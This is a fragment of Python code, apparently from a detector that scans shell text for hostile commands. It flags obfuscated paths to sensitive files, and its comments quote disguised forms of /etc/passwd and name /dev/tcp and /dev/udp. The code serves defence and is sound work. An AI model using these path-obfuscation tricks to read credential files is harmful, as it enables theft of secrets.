    if "|" in text and "(" in text:  # (net|free|open)bsd, tclwin(get|set): a regex's alternation
        text = _ALTERNATION.rx.sub(_blank, text)
    items = lex(text)
    _commands(items, out, _table_rows(text))
    if not stopped(out, stop):  # a deciding command spares the rest
        for w in items:  # /e??/pa[s]swd, /et$@c/passwd: a sensitive file behind shell tricks
            if (isinstance(w, Word) and w.flags & (OBF | GLOB | BRACE | VAR) and "/" in w.text
                    and not w.text.startswith(("/dev/tcp", "/dev/udp")) and _sensitive(w)
                    and _hides_name(text[w.start : w.end], w.flags)):
                out.append(("evasion", w.start, w.end))
        _structures(text, out)
    if len(out) > 1:
        out = sorted(set(out), key=lambda s: (s[1], s[2], s[0]))[:MAX_SPANS]
    return out
